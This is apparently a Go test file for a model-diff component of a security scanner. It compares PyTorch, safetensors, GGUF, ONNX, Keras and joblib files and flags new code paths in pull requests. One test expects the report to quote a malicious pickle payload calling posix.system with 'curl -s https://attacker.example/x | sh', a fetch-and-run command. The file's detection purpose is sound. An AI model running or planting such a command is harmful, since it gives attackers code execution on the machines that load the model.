package modeldiff

import (
	"archive/zip"
	"bytes"
	"context"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/ward-sec/ward/checks"
	"github.com/ward-sec/ward/checks/model"
)

// fixture reads a file of testdata/, or of the model checks' testdata when
// the name has a folder ("formats/onnx_benign.onnx").
func fixture(t testing.TB, name string) []byte {
	t.Helper()
	p := filepath.Join("testdata", name)
	if strings.Contains(name, "/") {
		p = filepath.Join("..", "testdata", filepath.FromSlash(name))
	}
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func describeFile(t testing.TB, name string) *Summary {
	t.Helper()
	b := fixture(t, name)
	s := Describe(context.Background(), prPath(name), bytes.NewReader(b), int64(len(b)), checks.Limits{})
	if s == nil {
		t.Fatalf("%s: not described", name)
	}
	return s
}

// path gives both versions of a pair the same path, as a PR would.
func prPath(name string) string { return "models/model" + filepath.Ext(name) }

func scanFile(t testing.TB, name string) []checks.Finding {
	t.Helper()
	b := fixture(t, name)
	return model.ScanReaderAt(context.Background(), prPath(name), bytes.NewReader(b), int64(len(b)), checks.Limits{})
}

func names(ts []Tensor) []string {
	var out []string
	for _, t := range ts {
		out = append(out, t.Name)
	}
	return out
}

func importNames(ims []Import) []string {
	var out []string
	for _, im := range ims {
		out = append(out, im.Name)
	}
	return out
}

func TestCompareCheckpoints(t *testing.T) {
	for _, tc := range []struct {
		base, head      string
		added, reshaped []string
		retyped         []string
		params          [2]int64
		calls           []string
		judgement       string
		convert         bool
	}{
		{base: "base.pt", head: "retrained.pt", params: [2]int64{19, 19},
			judgement: "weights only**: tensor values changed, no new code paths", convert: true},
		{base: "base.pt", head: "added_tensor.pt", added: []string{"classifier.weight", "classifier.bias"},
			reshaped: []string{"bn.running_mean"}, retyped: []string{"fc.bias"}, params: [2]int64{19, 30},
			judgement: "weights only**: data changed, no new code paths", convert: true},
		{base: "base_legacy.pt", head: "added_tensor_legacy.pt", added: []string{"classifier.weight", "classifier.bias"},
			reshaped: []string{"bn.running_mean"}, retyped: []string{"fc.bias"}, params: [2]int64{19, 30},
			judgement: "weights only**: data changed", convert: true},
		{base: "base.pt", head: "payload.pt", params: [2]int64{19, 19}, calls: []string{"posix.system"},
			judgement: "dangerous**: critical `model-pickle-dangerous-global`"},
		{base: "base.pt", head: "added_tensor_legacy.pt", added: []string{"classifier.weight", "classifier.bias"},
			reshaped: []string{"bn.running_mean"}, retyped: []string{"fc.bias"}, params: [2]int64{19, 30},
			judgement: "weights only**", convert: true},
	} {
		t.Run(tc.base+"→"+tc.head, func(t *testing.T) {
			c := Compare(describeFile(t, tc.base), describeFile(t, tc.head))
			fs := scanFile(t, tc.head)
			if got := names(c.Added); !slices.Equal(got, tc.added) {
				t.Errorf("added %v, want %v", got, tc.added)
			}
			var reshaped, retyped []string
			for _, x := range c.Reshaped {
				reshaped = append(reshaped, x.After.Name)
			}
			for _, x := range c.Retyped {
				retyped = append(retyped, x.After.Name)
			}
			if !slices.Equal(reshaped, tc.reshaped) || !slices.Equal(retyped, tc.retyped) {
				t.Errorf("reshaped %v retyped %v, want %v %v", reshaped, retyped, tc.reshaped, tc.retyped)
			}
			if c.ParamsBefore != tc.params[0] || c.ParamsAfter != tc.params[1] {
				t.Errorf("parameters %d → %d, want %v", c.ParamsBefore, c.ParamsAfter, tc.params)
			}
			if got := importNames(c.CallsAdded); !slices.Equal(got, tc.calls) {
				t.Errorf("calls added %v, want %v", got, tc.calls)
			}
			md := c.Markdown(fs)
			if !strings.Contains(md, tc.judgement) {
				t.Errorf("judgement: want %q in\n%s", tc.judgement, md)
			}
			if got := c.ConversionCommand(fs) != ""; got != tc.convert {
				t.Errorf("conversion offered %v, want %v\n%s", got, tc.convert, md)
			}
			if tc.convert && !strings.Contains(md, "save_file(") {
				t.Errorf("conversion command not in the comment:\n%s", md)
			}
		})
	}
}

func TestPayloadRendering(t *testing.T) {
	c := Compare(describeFile(t, "base.pt"), describeFile(t, "payload.pt"))
	md := c.Markdown(scanFile(t, "payload.pt"))
	for _, want := range []string{"Calls added (run by the unpickler on load): `posix.system`",
		"curl -s https://attacker.example/x | sh", "Tensors: 7 → 7"} {
		if !strings.Contains(md, want) {
			t.Errorf("want %q in\n%s", want, md)
		}
	}
	if strings.Contains(md, "save_file") {
		t.Error("conversion offered for a file with a finding")
	}
}

// A file with no base is described whole.
func TestNewFile(t *testing.T) {
	c := Compare(nil, describeFile(t, "base.pt"))
	md := c.Markdown(nil)
	for _, want := range []string{"**PyTorch checkpoint** · zip (torch.save)", "Tensors: 7, 19 parameters",
		"| added | `fc.weight` |  | float32 [2, 4] |", "`torch._utils._rebuild_tensor_v2` (called)", "new file, no finding"} {
		if !strings.Contains(md, want) {
			t.Errorf("want %q in\n%s", want, md)
		}
	}
}

// A pickle holding more than a flat dict of tensors is never offered the
// conversion: save_file would not take it, and its other objects are code.
func TestNoConversionForOtherPickles(t *testing.T) {
	for _, name := range []string{"benign/torch_checkpoint.pt", "benign/torch_full_module.pt", "benign/sklearn_tree.joblib",
		"benign/torchscript_linear.pt"} {
		s := describeFile(t, name)
		if s.PlainTensors {
			t.Errorf("%s: PlainTensors set (%+v)", name, s.Imports)
		}
	}
	if s := describeFile(t, "benign/torch_checkpoint.pt"); len(s.Tensors) == 0 {
		t.Error("nested checkpoint: no tensors listed")
	} else if s.Tensors[0].Name != "model.fc.weight" {
		t.Errorf("nested name %q, want model.fc.weight", s.Tensors[0].Name)
	}
}

func TestCompareFormats(t *testing.T) {
	t.Run("safetensors", func(t *testing.T) {
		c := Compare(describeFile(t, "base.safetensors"), describeFile(t, "head.safetensors"))
		if got := names(c.Added); !slices.Equal(got, []string{"lm_head.weight"}) {
			t.Errorf("added %v", got)
		}
		want := []MetaChange{{"source", "", "finetune"}, {"version", "1", "2"}}
		if !slices.Equal(c.Metadata, want) {
			t.Errorf("metadata %v, want %v", c.Metadata, want)
		}
		if c.Head.RunsCode != "no: data only" || c.NewCodePaths() {
			t.Errorf("safetensors judged as code: %+v", c.Head)
		}
	})
	t.Run("gguf template", func(t *testing.T) {
		c := Compare(describeFile(t, "formats/gguf_llama3.gguf"), describeFile(t, "formats/gguf_cve_2024_34359.gguf"))
		if !strings.Contains(c.TemplateDiff, "\n+") || !strings.Contains(c.TemplateDiff, "\n-") {
			t.Errorf("template diff:\n%s", c.TemplateDiff)
		}
		if !c.NewCodePaths() {
			t.Error("a changed chat template is a new code path")
		}
		if c.Head.Metadata["general.architecture"] == "" {
			t.Errorf("metadata keys not read: %v", c.Head.Metadata)
		}
	})
	t.Run("gguf keys", func(t *testing.T) {
		c := Compare(describeFile(t, "formats/gguf_chatml_v2.gguf"), describeFile(t, "formats/gguf_named_template.gguf"))
		var keys []string
		for _, m := range c.Metadata {
			keys = append(keys, m.Key)
		}
		if len(keys) == 0 {
			t.Fatal("no metadata change between two GGUF files with different keys")
		}
		t.Log(keys)
	})
	t.Run("onnx ops", func(t *testing.T) {
		c := Compare(describeFile(t, "formats/onnx_benign.onnx"), describeFile(t, "formats/onnx_custom_op.onnx"))
		if len(c.OpsAdded) == 0 {
			t.Errorf("no operator added: %v → %v", c.Base.Ops, c.Head.Ops)
		}
	})
	t.Run("keras hdf5 layers", func(t *testing.T) {
		c := Compare(describeFile(t, "formats/keras_benign.h5"), describeFile(t, "formats/keras_lambda.h5"))
		if !slices.ContainsFunc(c.LayersAdded, func(s string) bool { return strings.HasPrefix(s, "Lambda") }) {
			t.Errorf("Lambda not among layers added: %v → %v", c.Base.Layers, c.Head.Layers)
		}
	})
	t.Run("keras layers", func(t *testing.T) {
		c := Compare(describeFile(t, "formats/keras3_benign.keras"), describeFile(t, "formats/keras3_lambda.keras"))
		if !slices.ContainsFunc(c.LayersAdded, func(s string) bool { return strings.HasPrefix(s, "Lambda") }) {
			t.Errorf("Lambda not among layers added: %v", c.LayersAdded)
		}
	})
}

func TestUnifiedDiff(t *testing.T) {
	a := "a\nb\nc\nd\ne\nf\ng\nh\ni\nj\nl\n"
	b := "a\nb\nc\nD\ne\nf\ng\nh\ni\nj\nl\nk\n"
	want := "--- x\n+++ y\n@@ -1,7 +1,7 @@\n a\n b\n c\n-d\n+D\n e\n f\n g\n@@ -9,3 +9,4 @@\n i\n j\n l\n+k\n"
	if got := UnifiedDiff("x", "y", a, b); got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
	if got := UnifiedDiff("x", "y", "", "one\n"); got != "--- x\n+++ y\n@@ -0,0 +1,1 @@\n+one\n" {
		t.Errorf("from empty:\n%s", got)
	}
}

// Section collapses per file past three files.
func TestSectionCollapses(t *testing.T) {
	c := Compare(describeFile(t, "base.pt"), describeFile(t, "retrained.pt"))
	if s := Section([]*Change{c, c, c}, nil); strings.Contains(s, "<details>") || !strings.Contains(s, "### Model changes") {
		t.Errorf("three files collapsed:\n%s", s)
	}
	if s := Section([]*Change{c, c, c, c}, nil); strings.Count(s, "<details>") != 4 {
		t.Errorf("four files not collapsed:\n%s", s)
	}
}

// bigCheckpoint is a torch.save zip of about 1 GiB: base.pt's data.pkl and
// one stored tensor member of zeros that exists only as a size.
type bigCheckpoint struct {
	pre  []byte // local header and data.pkl, then the big member's header
	gap  int64  // the tensor data
	post []byte // central directory
}

func (b *bigCheckpoint) size() int64 { return int64(len(b.pre)) + b.gap + int64(len(b.post)) }

func (b *bigCheckpoint) ReadAt(p []byte, off int64) (int, error) {
	n := 0
	for n < len(p) {
		o := off + int64(n)
		switch {
		case o < int64(len(b.pre)):
			n += copy(p[n:], b.pre[o:])
		case o < int64(len(b.pre))+b.gap:
			k := min(int64(len(p)-n), int64(len(b.pre))+b.gap-o)
			clear(p[n : n+int(k)])
			n += int(k)
		case o < b.size():
			n += copy(p[n:], b.post[o-int64(len(b.pre))-b.gap:])
		default:
			return n, io.EOF
		}
	}
	return n, nil
}

func newBigCheckpoint(t testing.TB, gap int64) *bigCheckpoint {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(fixture(t, "base.pt")), int64(len(fixture(t, "base.pt"))))
	if err != nil {
		t.Fatal(err)
	}
	var pkl []byte
	for _, f := range zr.File {
		if strings.HasSuffix(f.Name, "/data.pkl") {
			rc, _ := f.Open()
			pkl, _ = io.ReadAll(rc)
		}
	}
	// local headers and data.pkl as zip.Writer writes them; the tensor
	// member's data is the gap; the directory is written by hand after it
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	w, _ := zw.CreateRaw(&zip.FileHeader{Name: "archive/data.pkl", Method: zip.Store,
		CompressedSize64: uint64(len(pkl)), UncompressedSize64: uint64(len(pkl))})
	w.Write(pkl)
	zw.Flush()
	if _, err := zw.CreateRaw(&zip.FileHeader{Name: "archive/data/0", Method: zip.Store,
		CompressedSize64: uint64(gap), UncompressedSize64: uint64(gap)}); err != nil {
		t.Fatal(err)
	}
	zw.Flush()
	pre := append([]byte(nil), buf.Bytes()...)
	big := &bigCheckpoint{pre: pre, gap: gap}
	big.post = centralDirectory(t, pkl, int64(len(pre)), gap)
	return big
}

// centralDirectory writes the two entries' directory and end record.
func centralDirectory(t testing.TB, pkl []byte, dataEnd, gap int64) []byte {
	t.Helper()
	var b bytes.Buffer
	le16 := func(v int) { b.WriteByte(byte(v)); b.WriteByte(byte(v >> 8)) }
	le32 := func(v int64) { le16(int(v & 0xffff)); le16(int(v >> 16 & 0xffff)) }
	localOffs := []int64{0, int64(30 + len("archive/data.pkl") + len(pkl))}
	entries := []struct {
		name string
		size int64
	}{{"archive/data.pkl", int64(len(pkl))}, {"archive/data/0", gap}}
	for i, e := range entries {
		le32(0x02014b50)
		le16(20)
		le16(20)
		le16(0)
		le16(0) // stored
		le16(0)
		le16(0)
		le32(0) // crc, not checked by a description
		le32(e.size)
		le32(e.size)
		le16(len(e.name))
		le16(0)
		le16(0)
		le16(0)
		le16(0)
		le32(0)
		le32(localOffs[i])
		b.WriteString(e.name)
	}
	dirLen := int64(b.Len())
	le32(0x06054b50)
	le16(0)
	le16(0)
	le16(2)
	le16(2)
	le32(dirLen)
	le32(dataEnd + gap)
	le16(0)
	return b.Bytes()
}

// A 1 GiB checkpoint costs its directory and its pickle, not its tensors.
func TestLargeCheckpointReadsHeadersOnly(t *testing.T) {
	big := newBigCheckpoint(t, 1<<30)
	cr := &countingReader{r: big}
	s := Describe(context.Background(), "big.pt", cr, big.size(), checks.Limits{})
	if s == nil || len(s.Tensors) != 7 {
		t.Fatalf("not described: %+v", s)
	}
	if cr.n > 256<<10 {
		t.Errorf("read %d bytes of a %d-byte checkpoint", cr.n, big.size())
	}
	t.Logf("read %d bytes of %d (%.4f%%)", cr.n, big.size(), 100*float64(cr.n)/float64(big.size()))
}

// joblib writes arrays into the stream after each NumpyArrayWrapper: the
// listing skips them and goes on.
func TestJoblibArrays(t *testing.T) {
	s := describeFile(t, "benign/sklearn_logreg.joblib")
	if len(s.Incomplete) > 0 || s.Format != "joblib dump" {
		t.Fatalf("%s, incomplete %v", s.Format, s.Incomplete)
	}
	want := []string{"classes_", "n_iter_", "coef_", "intercept_"}
	if got := names(s.Tensors); !slices.Equal(got, want) {
		t.Errorf("arrays %v, want %v", got, want)
	}
	if s.Tensors[2].Dtype != "float64" || s.Tensors[2].ShapeString() != "[1, 4]" {
		t.Errorf("coef_ %+v", s.Tensors[2])
	}
}

func TestCompressedJoblibAndNpy(t *testing.T) {
	for _, n := range []string{"benign/sklearn_tree.joblib.zlib", "benign/sklearn_tree.joblib.gzip", "benign/sklearn_tree.joblib.bz2"} {
		s := describeFile(t, n)
		if s.Format != "joblib dump" || len(s.Tensors) != 3 || len(s.Incomplete) > 0 || !strings.Contains(s.Container, "-compressed") {
			t.Errorf("%s: %s, %s, %d arrays, incomplete %v", n, s.Format, s.Container, len(s.Tensors), s.Incomplete)
		}
	}
	s := describeFile(t, "benign/array_float.npy")
	if len(s.Tensors) != 1 || s.Tensors[0].Dtype == "?" || len(s.Tensors[0].Shape) == 0 {
		t.Errorf(".npy: %+v", s.Tensors)
	}
	if s := Describe(context.Background(), "x.gz", bytes.NewReader([]byte("\x1f\x8bnot gzip")), 10, checks.Limits{}); s != nil {
		t.Errorf("garbage described: %+v", s)
	}
}
